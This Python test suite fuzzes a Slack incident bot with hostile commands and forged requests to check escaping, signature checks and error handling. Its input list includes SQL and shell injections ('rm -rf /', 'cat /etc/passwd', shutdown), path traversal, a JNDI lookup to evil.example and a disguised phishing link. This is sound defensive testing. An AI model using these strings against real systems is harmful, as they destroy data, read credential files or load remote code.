"""Hostile input: a thousand generated `/incident` texts and a pile of malformed, unsigned and
replayed payloads against the two replicas.

What must hold: no 5xx, every text command answered (an ephemeral in the HTTP body, through
its response_url, or the modal it opens), no traceback shown to a person, hostile titles
escaped in everything that reached Slack, and nothing stored or sent to Slack because of an
unsigned, badly signed or replayed request.
"""

from __future__ import annotations

import asyncio
import json
import random
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

import httpx
import sqlalchemy as sa
from warroom_sandbox.slack_driver import FORM, JSON, SendOptions

from tests.reliability.tally import Tally
from tests.reliability.world import World

SEED = 20240607
CONCURRENCY = 20
ANSWER_TIMEOUT_S = 45.0

# -- generating hostile texts -------------------------------------------------------------

SUBCOMMANDS = [
    "declare",
    "update",
    "sev",
    "severity",
    "ic",
    "commander",
    "note",
    "resolve",
    "status",
    "rollback",
    "scale",
    "restart",
    "history",
    "check",
    "repair",
    "timeline",
    "list",
    "help",
    "ack",
    "action",
    "cause",
    "postmortem",
    "pm",
]
UNKNOWN = ["frobnicate", "DECLARE", "Sev", "drop", "rm", "sudo", "'", '"', "`", "--help", "-n"]

# What must never come back out unescaped (a mention of everyone, a disguised link).
SMUGGLED = ["<!channel", "<!here", "<!everyone", "<!subteam^SEVIL", "<https://evil", "<#CEVIL"]
SMUGGLING = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^SEVIL|@oncall>",
    "<https://evil.example/login|Click here to reset>",
    "<#CEVIL|general>",
    "@channel",
    "<@UEVIL>",
    "<@UEVIL|root>",
    "&lt;!channel&gt;",
    "*bold* _it_ ~s~ `code` ```block```",
]
FRAGMENTS = [
    # unicode
    "Checkout is failing",
    "🔥🔥🔥 prod down 🔥🔥🔥",
    "中文标题 日本語のタイトル 한국어",
    "\u202egnilaf si tuokcehc",  # right-to-left override
    "zero\u200bwidth\u200bjoin\u2060er",
    "e\u0301\u0301\u0301\u0301 combining",
    "𝕳𝖊𝖑𝖑𝖔 𝔀𝓸𝓻𝓵𝓭",
    "\ufeffBOM",
    "İstanbul ß ﬁ",
    "\U0010ffff\uffff\ufffd",
    "ＳＥＶ１ fullwidth",
    "SEV1",
    "sev2",
    "SEV9",
    "SEV-1",
    "SEV<!channel>",
    # control characters
    "\x00nul",
    "bell\x07\x08back",
    "line\nbreak\r\nwindows",
    "\ttab\x0bvt\x0cff",
    "\x1b[31mred\x1b[0m",
    "\x7fdel\x85nel",
    "\u2028sep\u2029",
    # quotes
    "'unbalanced",
    '"unbalanced',
    "it's \"half",
    "`back",
    "'''",
    # SQL and shell
    "'; DROP TABLE incidents; --",
    "1 OR 1=1",
    '" OR ""="',
    "$(rm -rf /)",
    "`id`",
    "| cat /etc/passwd",
    "&& reboot",
    "; shutdown -h now",
    "../../etc/passwd",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    # options, numbers
    "-n",
    "-n prod",
    "--namespace=",
    "--to-revision",
    "--to-revision -1",
    "--to-revision=0",
    "api",
    "web",
    "api -n prod",
    "0",
    "-1",
    "1e9",
    "99999999999999999999999",
    "#1",
    "²",
    "#²",
    "١٢",
    "#",
    "NaN",
    "resolved",
    "investigating",
    "monitoring",
    "@alice",
    "@nobody",
    "@",
    "all",
    "cause: the cache",
    *SMUGGLING,
]


def _long(rng: random.Random, size: int) -> str:
    alphabet = "aé中🔥<>&'\" \\\n$;|`"
    return "".join(rng.choice(alphabet) for _ in range(size))


def generate_texts(count: int, seed: int = SEED) -> list[str]:
    """Deterministic: the same seed gives the same texts (so a failure can be replayed)."""
    rng = random.Random(seed)
    texts: list[str] = []
    names = SUBCOMMANDS + UNKNOWN
    for i in range(count):
        # every subcommand early and often, then a random mix
        name = names[i % len(names)] if i < 2 * len(names) else rng.choice(names)
        roll = rng.random()
        if roll < 0.04:
            args = _long(rng, rng.choice([4_100, 10_240]))  # over the limit
        elif roll < 0.08:
            args = _long(rng, rng.choice([160, 1_900, 3_100, 3_990]))  # just under it
        elif roll < 0.12:
            args = ""
        else:
            parts = rng.sample(FRAGMENTS, rng.randint(1, 4))
            args = rng.choice([" ", "  ", "\t", "\n", ""]).join(parts)
        shape = rng.random()
        if shape < 0.05:
            text = args  # no subcommand at all
        elif shape < 0.10:
            lead, gap = rng.choice(["  ", "\n", "\t"]), rng.choice(["", " "])
            text = f"{lead}{name}{gap}{args}"
        else:
            text = f"{name} {args}" if args else name
        texts.append(text)
    return texts


# -- sending and collecting answers --------------------------------------------------------


@dataclass
class Sent:
    index: int
    text: str
    user: str
    channel: str
    trigger_id: str
    response_url: str
    status: int = 0
    ack_text: str = ""
    ack_body: dict[str, Any] = field(default_factory=dict)
    error: str = ""

    @property
    def url_id(self) -> str:
        return self.response_url.rsplit("/", 1)[-1]

    @property
    def subcommand(self) -> str:
        parts = self.text.strip().split(maxsplit=1)
        return parts[0].lower() if parts else ""


_TRACE = re.compile(r"Traceback|Exception\b|File \"/|line \d+, in |\b[A-Z]\w*Error\b")


# With Postgres, Redis and Slack all up, these mean an exception nobody handled.
_UNEXPECTED = ("Something went wrong", "Storage is unavailable", "lock service (Redis)")


def leaks_internals(text: str) -> bool:
    """A traceback, an exception name or a stack frame shown to a person, or the catch-all
    apology for an unhandled error (nothing is down in these scenarios)."""
    return bool(_TRACE.search(text or "")) or any(u in (text or "") for u in _UNEXPECTED)


def _mrkdwn_texts(obj: Any) -> Iterator[str]:
    """Every string Slack would render as mrkdwn (plain_text objects are not parsed)."""
    if isinstance(obj, dict):
        if obj.get("type") == "plain_text":
            return
        for key, value in obj.items():
            if isinstance(value, str) and key in ("text", "topic", "purpose", "fallback"):
                yield value
            elif isinstance(value, dict | list):
                yield from _mrkdwn_texts(value)
    elif isinstance(obj, list):
        for item in obj:
            yield from _mrkdwn_texts(item)


def smuggled_in(obj: Any) -> str | None:
    for text in _mrkdwn_texts(obj):
        for marker in SMUGGLED:
            if marker in text:
                return f"{marker!r} in {text[:160]!r}"
    return None


def _declare_target(world: World) -> tuple[int, str]:
    """One incident the flood's in-channel commands act on."""
    alice = world.people["alice"]
    general = world.emulator.channel_by_name("general").id
    before = {r["number"] for r in world.bed.rows("SELECT number FROM incidents")}
    world.drivers[0].command("declare SEV3 hostile input target", user_id=alice, channel_id=general)

    def ready() -> dict | None:
        for row in world.bed.rows("SELECT * FROM incidents ORDER BY number"):
            if row["number"] not in before and row["channel_id"] and row["card_ts"]:
                return row
        return None

    row = world.bed.wait_for(ready, timeout=20)
    return int(row["number"]), str(row["channel_id"])


async def _send_all(world: World, sent: list[Sent], tally: Tally) -> None:
    gate = asyncio.Semaphore(CONCURRENCY)

    async def one(s: Sent) -> None:
        driver = world.drivers[s.index % len(world.drivers)]
        async with gate:
            started = time.perf_counter()
            try:
                resp = await driver.acommand(
                    s.text,
                    user_id=s.user,
                    channel_id=s.channel,
                    trigger_id=s.trigger_id,
                    response_url=s.response_url,
                )
            except httpx.HTTPError as exc:
                s.error = f"{type(exc).__name__}: {exc}"
                return
            tally.ack_ms.append((time.perf_counter() - started) * 1000)
        s.status = resp.status_code
        if resp.content:
            try:
                s.ack_body = resp.json()
            except ValueError:
                s.ack_body = {"text": resp.text}
            s.ack_text = str(s.ack_body.get("text") or "")

    try:
        await asyncio.gather(*(one(s) for s in sent))
    finally:
        for driver in world.drivers:
            await driver.aclose()


def scenario_hostile_commands(world: World, trials: int = 1000) -> Tally:
    """`trials` generated texts, 20 at a time over both replicas."""
    tally = Tally("hostile slash-command texts")
    emu = world.emulator
    number, inc_channel = _declare_target(world)
    general = emu.channel_by_name("general").id
    people = world.people
    rng = random.Random(SEED + 1)
    users = [people["alice"]] * 6 + [people["bob"]] * 3 + [people["erin"]]
    sent: list[Sent] = []
    for i, text in enumerate(generate_texts(trials)):
        user = rng.choice(users)
        channel = inc_channel if rng.random() < 0.5 else general
        if channel == general and rng.random() < 0.3 and text and not text[0].isspace():
            name, _, rest = text.partition(" ")
            text = f"{name} {rng.choice([str(number), f'#{number}'])} {rest}".rstrip()
        sent.append(
            Sent(
                index=i,
                text=text,
                user=user,
                channel=channel,
                trigger_id=emu.issue_trigger_id(user),
                response_url=emu.new_response_url(channel, user),
            )
        )
    tally.trials = len(sent)
    asyncio.run(_send_all(world, sent, tally))

    for s in sent:
        if s.error:
            tally.fail(f"#{s.index} {s.text[:40]!r}: no HTTP answer ({s.error})")
        elif s.status >= 500:
            tally.fail(f"#{s.index} {s.text[:40]!r}: HTTP {s.status}")
        elif s.status != 200:
            tally.fail(f"#{s.index} {s.text[:40]!r}: HTTP {s.status} {s.ack_text[:80]!r}")
        elif leaks_internals(s.ack_text):
            tally.fail(f"#{s.index} {s.text[:40]!r}: internals shown: {s.ack_text[:160]!r}")
        elif where := smuggled_in(s.ack_body):
            tally.fail(f"#{s.index} {s.text[:40]!r}: unescaped in the answer: {where}")
        elif s.ack_text and s.ack_body.get("response_type", "ephemeral") != "ephemeral":
            if s.subcommand not in ("action", "cause"):  # those two answer in the channel
                tally.fail(f"#{s.index} {s.text[:40]!r}: answer visible to the channel")

    # Every command answered: in the HTTP body, through its response_url, or by a modal.
    pending = [s for s in sent if s.status == 200 and not s.ack_text]
    deadline = time.monotonic() + ANSWER_TIMEOUT_S
    while pending and time.monotonic() < deadline:
        by_url = {r.url_id for r in emu.responses() if r.text or r.body.get("blocks")}
        opened = {str(c.args.get("trigger_id")) for c in emu.calls("views.open")}
        checks = sum(
            "Status checks" in str(c.args.get("text")) for c in emu.calls("chat.postMessage")
        )
        still = []
        for s in pending:
            if s.url_id in by_url or s.trigger_id in opened:
                continue
            if s.subcommand == "check" and checks > 0:
                checks -= 1  # `check` in an incident channel posts its results there
                continue
            still.append(s)
        pending = still
        if pending:
            time.sleep(0.25)
    for s in pending:
        tally.lost += 1
        if len(tally.notes) < 20:
            tally.notes.append(f"#{s.index} {s.text[:60]!r} ({s.channel}) was never answered")

    for r in emu.responses():
        if leaks_internals(r.text):
            tally.fail(f"internals shown through a response_url: {r.text[:160]!r}")
        if where := smuggled_in(r.body):
            tally.fail(f"unescaped in a response_url answer: {where}")
    for method in (
        "chat.postMessage",
        "chat.postEphemeral",
        "chat.update",
        "conversations.setTopic",
        "conversations.setPurpose",
    ):
        for c in emu.calls(method):
            if where := smuggled_in(c.args) or smuggled_in(_decoded_blocks(c.args)):
                tally.fail(f"unescaped in {method}: {where}")
            if leaks_internals(str(c.args.get("text") or "")):
                tally.fail(f"internals shown in {method}: {str(c.args.get('text'))[:160]!r}")
    for i, replica in enumerate(world.replicas):
        if replica.proc.poll() is not None:
            tally.fail(f"replica {i} exited with {replica.proc.returncode}")
    return tally


def _decoded_blocks(args: dict[str, Any]) -> Any:
    """The Web API client sends `blocks` as a JSON string in form bodies."""
    blocks = args.get("blocks")
    if isinstance(blocks, str):
        try:
            return json.loads(blocks)
        except ValueError:
            return None
    return None


# -- malformed, unsigned and replayed payloads ----------------------------------------------


def _form(**fields: Any) -> bytes:
    return urlencode(fields).encode()


def _payload(obj: Any) -> bytes:
    raw = obj if isinstance(obj, str) else json.dumps(obj)
    return urlencode({"payload": raw}).encode()


def malformed_cases(world: World, number: int) -> list[tuple[str, bytes, str]]:
    """(name, body, content type): bodies no Slack would send, or sent with missing/wrong
    fields. Their signature is valid; the unsigned scenario sends them unsigned too."""
    alice = world.people["alice"]
    user = {"id": alice, "username": "alice", "team_id": "T0"}
    ack = {"action_id": "incident_ack", "value": str(number), "action_ts": "1.2"}
    sev_view = {
        "type": "modal",
        "id": "VMALFORMED",
        "callback_id": "incident_severity_view",
        "private_metadata": json.dumps({"n": number}),
        "state": {"values": {"severity": {"value": {"selected_option": {"value": "SEV1"}}}}},
    }
    nowhere = {**ack, "value": "987654"}  # no such incident: a valid press changes nothing
    stateless = {k: v for k, v in sev_view.items() if k != "state"}
    long_user, long_channel = "U" + "A" * 40, "C" + "A" * 40  # our id columns are String(32)
    big = {"type": "block_actions", "user": user, "actions": [nowhere], "junk": "x" * 2_000_000}
    return [
        # slash commands
        ("command without user", _form(command="/incident", text="declare SEV1 ghost"), FORM),
        ("command without text", _form(command="/incident", user_id=alice), FORM),
        ("command without command", _form(text="declare SEV1 ghost", user_id=alice), FORM),
        ("unknown command", _form(command="/nope", text="x", user_id=alice), FORM),
        (
            "command, repeated fields",
            b"command=/incident&text=a&text=b&user_id=U1&user_id=U2",
            FORM,
        ),
        (
            "command, user id longer than the column",
            _form(command="/incident", text="declare SEV1 ghost", user_id=long_user),
            FORM,
        ),
        (
            "command, channel id longer than the column",
            _form(command="/incident", text="note ghost", user_id=alice, channel_id=long_channel),
            FORM,
        ),
        (
            "command, team id not a team id",
            _form(command="/incident", text="list", user_id=alice, team_id="x" * 300),
            FORM,
        ),
        ("empty form", b"", FORM),
        ("garbage form", b"%%%&&&===\xff\xfe", FORM),
        # interactivity: missing fields, wrong types
        ("payload without type", _payload({"user": user}), FORM),
        ("block_actions without actions", _payload({"type": "block_actions", "user": user}), FORM),
        ("block_actions without user", _payload({"type": "block_actions", "actions": [ack]}), FORM),
        (
            "block_actions, user a string",
            _payload({"type": "block_actions", "user": alice, "actions": [ack]}),
            FORM,
        ),
        (
            "block_actions, actions a dict",
            _payload({"type": "block_actions", "user": user, "actions": ack}),
            FORM,
        ),
        (
            "block_actions, action a string",
            _payload({"type": "block_actions", "user": user, "actions": ["incident_ack"]}),
            FORM,
        ),
        (
            "block_actions, value a list",
            _payload(
                {
                    "type": "block_actions",
                    "user": user,
                    "actions": [{**ack, "value": [number]}],
                }
            ),
            FORM,
        ),
        (
            "block_actions, channel a string",
            _payload({"type": "block_actions", "user": user, "actions": [ack], "channel": "C1"}),
            FORM,
        ),
        (
            "resolve confirm, value not JSON",
            _payload(
                {
                    "type": "block_actions",
                    "user": user,
                    "actions": [{"action_id": "incident_resolve_confirm", "value": "{nope"}],
                }
            ),
            FORM,
        ),
        (
            "ops confirm, value a number",
            _payload(
                {
                    "type": "block_actions",
                    "user": user,
                    "actions": [{"action_id": "ops_confirm", "value": "42", "action_ts": "9.9"}],
                }
            ),
            FORM,
        ),
        (
            "block_actions, user id longer than the column",
            _payload({"type": "block_actions", "user": {"id": long_user}, "actions": [ack]}),
            FORM,
        ),
        (
            "block_actions, channel id not a channel id",
            _payload(
                {
                    "type": "block_actions",
                    "user": user,
                    "actions": [ack],
                    "channel": {"id": "general"},
                }
            ),
            FORM,
        ),
        (
            "block_actions, value longer than Slack's 2000",
            _payload(
                {"type": "block_actions", "user": user, "actions": [{**ack, "value": "9" * 2001}]}
            ),
            FORM,
        ),
        (
            "ack, number past Postgres' integer",
            _payload(
                {"type": "block_actions", "user": user, "actions": [{**ack, "value": "9" * 30}]}
            ),
            FORM,
        ),
        (
            "ack, number in superscript",
            _payload({"type": "block_actions", "user": user, "actions": [{**ack, "value": "²"}]}),
            FORM,
        ),
        (
            "resolve confirm, number past Postgres' integer",
            _payload(
                {
                    "type": "block_actions",
                    "user": user,
                    "actions": [{"action_id": "incident_resolve_confirm", "value": "9" * 30 + ":"}],
                }
            ),
            FORM,
        ),
        ("view_submission without view", _payload({"type": "view_submission", "user": user}), FORM),
        (
            "view_submission without state",
            _payload({"type": "view_submission", "user": user, "view": stateless}),
            FORM,
        ),
        (
            "view_submission, state without values",
            _payload({"type": "view_submission", "user": user, "view": {**stateless, "state": {}}}),
            FORM,
        ),
        (
            "view_submission, number past Postgres' integer",
            _payload(
                {
                    "type": "view_submission",
                    "user": user,
                    "view": {**sev_view, "private_metadata": json.dumps({"n": 10**30})},
                }
            ),
            FORM,
        ),
        (
            "view_submission, picked user longer than the column",
            _payload(
                {
                    "type": "view_submission",
                    "user": user,
                    "view": {
                        **sev_view,
                        "callback_id": "incident_commander_view",
                        "state": {"values": {"commander": {"value": {"selected_user": long_user}}}},
                    },
                }
            ),
            FORM,
        ),
        (
            "view_submission, view a string",
            _payload({"type": "view_submission", "user": user, "view": "V1"}),
            FORM,
        ),
        (
            "view_submission, state a list",
            _payload({"type": "view_submission", "user": user, "view": {**sev_view, "state": []}}),
            FORM,
        ),
        (
            "view_submission, metadata not JSON",
            _payload(
                {
                    "type": "view_submission",
                    "user": user,
                    "view": {**sev_view, "private_metadata": "{"},
                }
            ),
            FORM,
        ),
        (
            "view_submission, view without type",
            _payload({"type": "view_submission", "user": user, "view": {**sev_view, "type": None}}),
            FORM,
        ),
        (
            "view_submission, values not objects",
            _payload(
                {
                    "type": "view_submission",
                    "user": user,
                    "view": {**sev_view, "state": {"values": {"severity": "SEV1"}}},
                }
            ),
            FORM,
        ),
        (
            "view_submission without user",
            _payload({"type": "view_submission", "view": sev_view}),
            FORM,
        ),
        ("payload a list", _payload([1, 2, 3]), FORM),
        ("payload a number", _payload("42"), FORM),
        ("payload a string", _payload('"block_actions"'), FORM),
        ("payload null", _payload("null"), FORM),
        ("payload invalid JSON", _payload("{'type': 'block_actions'"), FORM),
        ("payload empty", _payload(""), FORM),
        ("huge JSON payload", _payload(big), FORM),
        ("huge invalid payload", _payload("{" + "x" * 3_000_000), FORM),
        # Events API
        ("event without event", json.dumps({"type": "event_callback"}).encode(), JSON),
        (
            "event, event a string",
            json.dumps({"type": "event_callback", "event": "reaction_added"}).encode(),
            JSON,
        ),
        (
            "reaction without item",
            json.dumps(
                {"type": "event_callback", "event": {"type": "reaction_added", "user": alice}}
            ).encode(),
            JSON,
        ),
        ("event body a list", b"[1, 2]", JSON),
        ("event body invalid JSON", b'{"type": "event_callback", ', JSON),
        ("event body not UTF-8", b'{"type": "\xff\xfe"}', JSON),
        ("url_verification without challenge", b'{"type": "url_verification"}', JSON),
    ]


def _snapshot(world: World) -> dict[str, Any]:
    tables = [
        r["tablename"]
        for r in world.bed.rows(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public' "
            "AND tablename <> 'alembic_version' ORDER BY tablename"
        )
    ]
    counts = {t: world.bed.rows(f"SELECT count(*) AS n FROM {t}")[0]["n"] for t in tables}
    incidents = world.bed.rows(
        "SELECT number, severity, status, commander_id, acknowledged_at FROM incidents "
        "ORDER BY number"
    )
    return {"counts": counts, "incidents": incidents}


def _slack_activity(world: World) -> tuple[int, int, int]:
    emu = world.emulator
    calls = [c for c in emu.calls() if c.method != "auth.test"]
    return len(calls), len(emu.responses()), len(emu.views())


def _post(url: str, body: bytes, headers: dict[str, str]) -> httpx.Response:
    # A fresh connection each time: after a 5xx the server may close the kept-alive one.
    with httpx.Client(timeout=30) as client:
        return client.post(url, content=body, headers=headers)


def _check_answer(tally: Tally, name: str, resp: httpx.Response) -> None:
    if resp.status_code >= 500:
        tally.fail(f"{name}: HTTP {resp.status_code}")
    elif leaks_internals(resp.text):
        tally.fail(f"{name}: internals in the answer: {resp.text[:160]!r}")


def scenario_malformed_payloads(world: World, trials: int = 38) -> Tally:
    """Signed, but missing fields, wrong types, huge or invalid JSON: never a 5xx, never a
    traceback, nothing stored."""
    tally = Tally("malformed payloads")
    number, _ = _declare_target(world)
    time.sleep(0.5)  # let the declaration's last Slack steps land
    cases = malformed_cases(world, number)
    before = _snapshot(world)
    for i in range(trials):
        name, body, content_type = cases[i % len(cases)]
        driver = world.drivers[i % len(world.drivers)]
        headers = driver.headers_for(body, content_type, SendOptions())
        started = time.perf_counter()
        try:
            resp = _post(driver.app_url, body, headers)
        except httpx.HTTPError as exc:
            tally.fail(f"{name}: no HTTP answer ({type(exc).__name__})")
            continue
        tally.ack_ms.append((time.perf_counter() - started) * 1000)
        tally.trials += 1
        _check_answer(tally, name, resp)
    time.sleep(1.0)
    after = _snapshot(world)
    if after != before:
        tally.fail(f"malformed payloads changed Postgres: {before} -> {after}")
    for r in world.emulator.responses():
        if leaks_internals(r.text):
            tally.fail(f"internals shown through a response_url: {r.text[:160]!r}")
    for i, replica in enumerate(world.replicas):
        if replica.proc.poll() is not None:
            tally.fail(f"replica {i} exited with {replica.proc.returncode}")
    return tally


def _valid_requests(world: World, number: int, channel: str) -> list[tuple[str, bytes, str]]:
    """Requests that would change things if they were accepted."""
    driver = world.drivers[0]
    alice = world.people["alice"]
    general = world.emulator.channel_by_name("general").id
    prepared = [
        ("declare", driver.prepare_command("declare SEV1 unsigned ghost", alice, general)),
        ("sev", driver.prepare_command("sev SEV1", alice, channel)),
        ("note", driver.prepare_command("note forged", alice, channel)),
        ("update", driver.prepare_command("update forged", alice, channel)),
        ("list", driver.prepare_command("list", alice, general)),
        (
            "ack button",
            driver.prepare_block_action(
                "incident_ack", str(number), user_id=alice, channel_id=channel
            ),
        ),
        (
            "resolve confirm",
            driver.prepare_block_action(
                "incident_resolve_confirm",
                json.dumps({"n": number, "s": "forged"}),
                user_id=alice,
                channel_id=channel,
            ),
        ),
        (
            "severity modal",
            driver.prepare_view_submission(
                "incident_severity_view",
                {
                    "severity": {
                        "value": {"type": "static_select", "selected_option": {"value": "SEV1"}}
                    }
                },
                user_id=alice,
                private_metadata=json.dumps({"n": number, "c": channel}),
            ),
        ),
        (
            "reaction event",
            driver.prepare_event(
                {
                    "type": "reaction_added",
                    "user": alice,
                    "reaction": "pushpin",
                    "item": {"type": "message", "channel": channel, "ts": "1.000001"},
                }
            ),
        ),
    ]
    return [(name, p.body, p.content_type) for name, p in prepared]


def scenario_unsigned_and_replayed(world: World, trials: int = 120) -> Tally:
    """Valid-looking and malformed requests, unsigned, wrongly signed, signed with another
    secret, or replayed with a timestamp over five minutes old (or ahead): refused (401),
    and nothing stored, nothing sent to Slack."""
    tally = Tally("unsigned and replayed requests")
    number, channel = _declare_target(world)
    time.sleep(0.5)
    requests = _valid_requests(world, number, channel) + malformed_cases(world, number)
    now = int(time.time())
    ways: list[tuple[str, SendOptions]] = [
        ("unsigned", SendOptions(unsigned=True)),
        ("bad signature", SendOptions(bad_signature=True)),
        ("another secret", SendOptions(sign_with="not-the-signing-secret")),
        ("replayed 5 min 1 s later", SendOptions(timestamp=now - 301)),
        ("replayed an hour later", SendOptions(timestamp=now - 3600)),
        ("timestamp 10 min ahead", SendOptions(timestamp=now + 600)),
        ("timestamp not a number", SendOptions(headers={"X-Slack-Request-Timestamp": "soon"})),
    ]
    before = _snapshot(world)
    slack_before = _slack_activity(world)
    refused = 0
    for i in range(trials):
        name, body, content_type = requests[i % len(requests)]
        how, opts = ways[(i // len(requests) + i) % len(ways)]
        driver = world.drivers[i % len(world.drivers)]
        headers = driver.headers_for(body, content_type, opts)
        started = time.perf_counter()
        try:
            resp = _post(driver.app_url, body, headers)
        except httpx.HTTPError as exc:
            tally.fail(f"{how} {name}: no HTTP answer ({type(exc).__name__})")
            continue
        tally.ack_ms.append((time.perf_counter() - started) * 1000)
        tally.trials += 1
        _check_answer(tally, f"{how} {name}", resp)
        if resp.status_code in (401, 403):
            refused += 1
        elif resp.status_code < 500:
            tally.fail(f"{how} {name}: accepted with HTTP {resp.status_code} {resp.text[:80]!r}")
    time.sleep(1.0)
    after = _snapshot(world)
    if after != before:
        tally.fail(f"an unsigned request changed Postgres: {before} -> {after}")
    slack_after = _slack_activity(world)
    if slack_after != slack_before:
        tally.fail(
            f"an unsigned request reached Slack (calls, responses, views): "
            f"{slack_before} -> {slack_after}"
        )
    if refused == 0:
        tally.fail("nothing was refused: the scenario did not exercise the signature check")
    return tally


# -- the tests -----------------------------------------------------------------------------


def test_a_thousand_hostile_texts_are_all_answered(w: World) -> None:
    started = time.monotonic()
    tally = scenario_hostile_commands(w, 1000)
    elapsed = time.monotonic() - started
    assert tally.clean, tally.summary()
    assert tally.trials == 1000 and len(tally.ack_ms) == 1000
    # the flood reached the real paths: incidents declared from hostile titles, timeline
    # entries from in-channel commands, and refusals of the too-long texts
    titles = [r["title"] for r in w.bed.rows("SELECT title FROM incidents")]
    assert len(titles) > 20, titles
    assert any("<!channel>" in t or "<https://evil" in t for t in titles), titles
    kinds = {r["kind"] for r in w.bed.rows("SELECT DISTINCT kind FROM timeline_events")}
    assert {"declared", "note", "update"} <= kinds, kinds
    assert elapsed < 75, f"the flood took {elapsed:.0f} s"


def test_malformed_payloads_never_5xx_and_store_nothing(w: World) -> None:
    tally = scenario_malformed_payloads(w, 2 * len(malformed_cases(w, 1)))
    assert tally.clean, tally.summary()
    assert tally.trials == 2 * len(malformed_cases(w, 1))


def test_unsigned_and_replayed_requests_are_refused_and_store_nothing(w: World) -> None:
    tally = scenario_unsigned_and_replayed(w, 150)
    assert tally.clean, tally.summary()
    assert tally.trials == 150


MARKER = "hostile-marker-7f3a"  # user text the database refuses, and the logs must not hold


def test_a_storage_error_answers_plainly_and_logs_no_user_text(w: World) -> None:
    """Postgres refuses a note (a check constraint stands in for any database error): the
    person is told nothing was changed, and the replicas' logs say what failed without the
    note, the SQL parameters or Postgres' DETAIL (which repeats the failing row)."""
    _, channel = _declare_target(w)
    alice = w.people["alice"]
    sizes = [path.stat().st_size for path in w.log_files]
    with w.bed._sync_engine.begin() as conn:
        conn.execute(
            sa.text(
                "ALTER TABLE timeline_events ADD CONSTRAINT hostile_refuse CHECK "
                f"(text IS NULL OR position('{MARKER}' in text) = 0)"
            )
        )
    try:
        answers = [
            driver.command(f"note {MARKER} in a note", user_id=alice, channel_id=channel)
            for driver in w.drivers
        ]
    finally:
        with w.bed._sync_engine.begin() as conn:
            conn.execute(sa.text("ALTER TABLE timeline_events DROP CONSTRAINT hostile_refuse"))
    for resp in answers:
        assert resp.status_code == 200
        assert "Storage is unavailable right now, so nothing was changed" in resp.json()["text"]
    assert not w.bed.rows("SELECT 1 FROM timeline_events WHERE kind = 'note'")

    def new_lines() -> str:
        return "".join(
            path.read_bytes()[size:].decode(errors="replace")
            for path, size in zip(w.log_files, sizes, strict=True)
        )

    logged = w.bed.wait_for(lambda: (text := new_lines()).count("command failed") >= 2 and text)
    assert "IntegrityError" in logged and "hostile_refuse" in logged  # what failed is there
    assert MARKER not in logged
    assert "[parameters: [redacted]]" in logged
